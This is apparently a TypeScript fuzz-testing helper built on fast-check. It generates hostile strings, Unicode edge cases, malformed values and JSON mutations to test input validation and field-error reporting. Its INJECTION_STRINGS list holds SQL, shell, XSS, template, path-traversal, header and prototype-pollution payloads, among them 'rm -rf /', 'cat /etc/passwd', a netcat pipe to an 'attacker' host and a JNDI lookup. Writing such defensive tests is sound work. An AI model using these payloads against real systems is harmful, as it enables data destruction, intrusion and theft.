import fc from 'fast-check';
import { toFieldIssues } from '../../../domain/errors.ts';

/** Strings that try to be code somewhere downstream: SQL, shell, HTML, visibility queries, templates, JSON, paths. */
export const INJECTION_STRINGS = [
  "' OR 1=1 --",
  '" OR ""="',
  "'; DROP TABLE systems; --",
  "x' OR GovStage = 'approved",
  'GovOwner = "x" OR WorkflowType != ""',
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd',
  '| nc attacker 4444',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{"$ne": null}',
  '{"__proto__": {"polluted": true}}',
  '${jndi:ldap://attacker/a}',
  '{{7*7}}',
  '../../../etc/passwd',
  '%00%2e%2e%2f',
  'ok\r\nX-Injected: 1',
  '__proto__',
  'constructor',
  'prototype',
] as const;

/** Unicode that trips parsers, renderers and byte-level encoders. */
export const UNICODE_EDGES = [
  '\uD800', // lone high surrogate
  'a\uDC00b', // lone low surrogate
  '\uDBFF\uD800', // two highs, no low
  '\u202Egnp.exe', // right-to-left override
  '\u2066x\u2069', // isolates
  '\u200B', // zero-width space
  'a\u200Db', // zero-width joiner
  '\uFEFF', // byte order mark
  'a\u0000b', // NUL
  '\u0000',
  '\u0007\u001B[31m', // bell and an ANSI escape
  '😀',
  '👩‍👩‍👧‍👦',
  'e\u0301', // combining accent
  'ＡＢＣ', // full-width
  'İı', // case-mapping traps
  '\n',
  '\t',
] as const;

/** Strings of UTF-16 code units, lone surrogates included (fast-check's own string units are well-formed). */
export const codeUnitString = (maxLength = 40): fc.Arbitrary<string> =>
  fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)), maxLength });

/** A very long string, far over every bound in the schemas. */
export const longString: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 5_000, max: 120_000 }), fc.constantFrom('x', 'é', '😀', ' x', '\u200B'))
  .map(([n, unit]) => unit.repeat(n));

/** Any hostile string: injections, unicode edges, both glued to ordinary text, random code units, or oversized. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTION_STRINGS),
  fc.constantFrom(...UNICODE_EDGES),
  fc
    .tuple(
      fc.string({ maxLength: 8 }),
      fc.constantFrom(...INJECTION_STRINGS, ...UNICODE_EDGES),
      fc.string({ maxLength: 8 }),
    )
    .map((parts) => parts.join('')),
  codeUnitString(),
  { arbitrary: longString, weight: 1 },
);

/** Keys that must never reach an object's prototype, or be taken for a field. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '$where', ''),
  hostileString.filter((s) => s.length < 200),
);

/** A JSON object whose own keys are hostile (built by JSON.parse, so `__proto__` is an own key, not a prototype). */
export const hostileObject: fc.Arbitrary<Record<string, unknown>> = fc
  .array(fc.tuple(hostileKey, fc.jsonValue({ maxDepth: 2 })), { maxLength: 4 })
  .map((entries) => JSON.parse(`{${entries.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`).join(',')}}`));

/** Any value of the wrong shape: hostile strings, numbers at the edges, null, booleans, arrays and objects. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileString, weight: 4 },
  fc.constantFrom(
    null,
    true,
    false,
    0,
    -1,
    1.5,
    -0,
    1e300,
    Number.MAX_SAFE_INTEGER + 2,
    NaN,
    Infinity,
    '',
    ' ',
    [],
    {},
  ),
  fc.array(hostileString, { maxLength: 3 }),
  hostileObject,
  fc.jsonValue({ maxDepth: 3 }),
);

/** A path to a value inside a JSON-like value: object keys and array indexes. */
export type Path = readonly (string | number)[];

/** Every path inside `value` (not the root itself), parents before children. */
export function pathsOf(value: unknown, prefix: Path = []): Path[] {
  if (value === null || typeof value !== 'object') return [];
  const entries: [string | number, unknown][] = Array.isArray(value)
    ? value.map((v, i) => [i, v])
    : Object.entries(value as Record<string, unknown>);
  return entries.flatMap(([k, v]) => [[...prefix, k], ...pathsOf(v, [...prefix, k])]);
}

/** The container at `path`, or undefined when the path no longer leads to an object. */
function containerAt(root: unknown, path: Path): Record<string | number, unknown> | undefined {
  let node: unknown = root;
  for (const seg of path) {
    if (node === null || typeof node !== 'object') return undefined;
    node = (node as Record<string | number, unknown>)[seg];
  }
  return node !== null && typeof node === 'object' ? (node as Record<string | number, unknown>) : undefined;
}

/** One change to a JSON-like value: set a value at a path, delete it, or add a key to an object. */
export type Mutation =
  | { kind: 'set'; path: Path; value: unknown }
  | { kind: 'delete'; path: Path }
  | { kind: 'add'; path: Path; key: string; value: unknown };

/** Applies mutations to a deep copy of `base`; returns the copy and the paths it actually touched. */
export function mutate(base: unknown, mutations: readonly Mutation[]): { value: unknown; touched: Path[] } {
  const root = { v: structuredClone(base) } as Record<string, unknown>;
  const touched: Path[] = [];
  for (const m of mutations) {
    const full: Path = ['v', ...m.path];
    const parent = containerAt(root, m.kind === 'add' ? full : full.slice(0, -1));
    if (!parent) continue;
    const last = full[full.length - 1]!;
    if (m.kind === 'delete') delete parent[last];
    // defineProperty, so `__proto__` becomes an own key as it would from JSON, never the object's prototype.
    else if (m.kind === 'set')
      Object.defineProperty(parent, last, { value: m.value, enumerable: true, writable: true, configurable: true });
    else Object.defineProperty(parent, m.key, { value: m.value, enumerable: true, writable: true, configurable: true });
    touched.push(m.kind === 'add' ? [...m.path, m.key] : m.path);
  }
  return { value: root.v, touched };
}

/** Mutations over the paths of `base`. */
export const mutationOf = (base: unknown): fc.Arbitrary<Mutation> => {
  const paths = pathsOf(base);
  const objectPaths: Path[] = [
    [],
    ...paths.filter(
      (p) => containerAt({ v: base }, ['v', ...p]) && !Array.isArray(containerAt({ v: base }, ['v', ...p])),
    ),
  ];
  return fc.oneof(
    {
      arbitrary: fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom(...paths), value: hostileValue }),
      weight: 5,
    },
    fc.record({ kind: fc.constant('delete' as const), path: fc.constantFrom(...paths) }),
    fc.record({
      kind: fc.constant('add' as const),
      path: fc.constantFrom(...objectPaths),
      key: hostileKey,
      value: hostileValue,
    }),
  );
};

/** A path written as field issues write it (`affected.minors`, `contacts[0]`, `(root)`). */
export const pathText = (path: Path): string => toFieldIssues([{ path, message: '' }])[0]!.path;

/** True when one path lies on the other's way: equal, an ancestor or a descendant (the root relates to all). */
export function related(issuePath: string, touched: string): boolean {
  if (issuePath === '(root)' || touched === '(root)' || issuePath === touched) return true;
  const within = (a: string, b: string) => b.startsWith(`${a}.`) || b.startsWith(`${a}[`);
  return within(issuePath, touched) || within(touched, issuePath);
}

/** Runs `fn` and returns what it threw (undefined when it returned). */
export function thrown(fn: () => unknown): unknown {
  try {
    fn();
  } catch (e) {
    return e;
  }
  return undefined;
}
